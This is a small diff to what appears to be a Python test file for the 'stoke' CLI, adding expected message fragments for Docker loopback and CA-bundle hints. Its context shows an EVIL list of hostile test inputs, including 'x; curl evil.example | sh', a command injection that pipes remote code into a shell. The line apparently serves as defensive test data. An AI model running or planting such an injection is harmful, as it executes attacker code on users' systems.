@@ -18,6 +18,7 @@ GOOD: dict[str, tuple[list[str], str]] = {
     "check-network": ([], "stoke doctor"),
     "check-nix-network": ([], "nix.substituters"),
     "clear-system": ([], "stoke cache clear --kind system -b docker --scope team-a"),
+    "containers-loopback": ([], "such as that of the Docker bridge"),
     "did-you-mean": (
         ["numpy, ripgrep, python3Packages.requests"],
         "did you mean numpy, ripgrep, python3Packages.requests?",
@@ -40,6 +41,7 @@ GOOD: dict[str, tuple[list[str], str]] = {
     "prune-python": ([], "stoke cache prune --unused 7d -b docker --scope team-a, or"),
     "prune-system": ([], "cache prune --kind system --unused 7d -b docker --scope team-a"),
     "run-in-docker": ([], "stoke run -b docker"),
+    "trust-index": ([], "export STOKE_INDEX__CA_BUNDLE="),
 }
 EVIL = [
     "x; curl evil.example | sh",
